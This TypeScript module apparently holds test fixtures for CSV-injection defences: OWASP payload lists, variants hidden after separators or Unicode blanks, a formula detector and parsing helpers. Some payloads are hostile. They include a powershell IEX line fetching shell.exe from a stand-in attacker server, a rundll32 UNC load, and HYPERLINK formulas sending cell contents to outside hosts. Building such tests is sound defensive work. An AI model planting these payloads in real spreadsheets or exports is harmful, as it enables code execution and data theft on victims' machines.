import Papa from "papaparse"

/**
 * CSV-injection payloads from the OWASP "CSV Injection" page, plus the spellings its rule names:
 * a leading tab or carriage return, and leading spaces before the formula character.
 */
export const OWASP_CSV_PAYLOADS = [
  `=HYPERLINK("http://contextis.co.uk?leak="&A1&A2,"Error: please click for further information")`,
  `=cmd|' /C notepad'!'A1'`,
  `=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0`,
  `=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1`,
  `=10+20+cmd|' /C calc'!A0`,
  `+2+3+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `-2+3`,
  `@SUM(1+9)*cmd|' /C calc'!A0`,
  `=1+2";=1+2`,
  `=1+2'" ;,=1+2`,
  `\t=1+2`,
  `\r=1+2`,
  `   =1+2`,
  ` -2+3+cmd|' /C calc'!A0`,
  `-1.5e3`,
] as const

/**
 * Formulas hidden after a list separator or a line break inside a cell: harmless in a spreadsheet
 * that splits on `,`, run by one whose locale splits on `;` (Arabic, much of Europe) or that reads tabs.
 */
export const MID_CELL_PAYLOADS = [
  `x;=HYPERLINK("http://evil.example/?d="&A1,"click")`,
  `Sara;+1+1`,
  `a,=1+2`,
  `a;  -2+3+cmd|' /C calc'!A0`,
  `name\t=1+2`,
  `line one\n@SUM(1+9)`,
  `line one\r\n=1+2`,
  `a;\u00a0=1+2`,
] as const

/**
 * Formulas behind blank characters other than the ordinary and no-break space, which a spreadsheet
 * or a cleaning tool may trim: Unicode spaces, zero-width and direction marks, a byte-order mark.
 */
export const UNICODE_BLANK_PAYLOADS = [
  `\u2003=1+2`,
  `\u3000=HYPERLINK("http://evil.example","x")`,
  `\u202f+1+1`,
  `\u200b=1+2`,
  `\ufeff@SUM(1+9)`,
  `\u200e-2+3`,
  `a;\u2009\u200b=1+2`,
  `\u2028=1+2`,
] as const

/** A spreadsheet runs a cell as a formula when, after any blank characters or an opening quote, it starts with one of these. */
export function runsAsFormula(cell: string): boolean {
  return /^["\s\p{Z}\p{Cf}]*[=+\-@\t\r]/u.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell.trim())
}

/**
 * The cells a spreadsheet sees when it opens `csv` with `delimiter` as its list separator, read by
 * papaparse (quotes honoured, as Excel and LibreOffice do); numbers typed as numbers.
 */
export function spreadsheetCells(csv: string, delimiter: "," | ";" | "\t"): unknown[][] {
  return Papa.parse<unknown[]>(csv, { delimiter, newline: "\r\n", quoteChar: '"', dynamicTyping: true, skipEmptyLines: true }).data
}

/** The same file read by a tool that ignores quotes and splits every line on `separator`. */
export function naiveCells(csv: string, separator: RegExp): string[] {
  return csv.split(/\r\n|\n|\r/).flatMap((line) => line.split(separator))
}
